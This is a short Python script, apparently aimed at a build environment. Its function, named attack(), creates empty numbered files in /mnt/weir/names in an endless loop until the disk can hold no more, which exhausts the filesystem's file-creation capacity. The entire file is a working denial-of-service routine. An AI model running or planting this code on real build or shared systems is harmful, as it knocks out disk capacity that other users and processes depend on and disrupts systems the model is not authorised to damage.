"""Makes empty files on the build's disk until there can be no more."""
import os


def attack():
    folder = "/mnt/weir/names"
    os.makedirs(folder, exist_ok=True)
    number = 0
    while True:
        os.close(os.open("%s/%d" % (folder, number), os.O_CREAT | os.O_WRONLY))
        number += 1
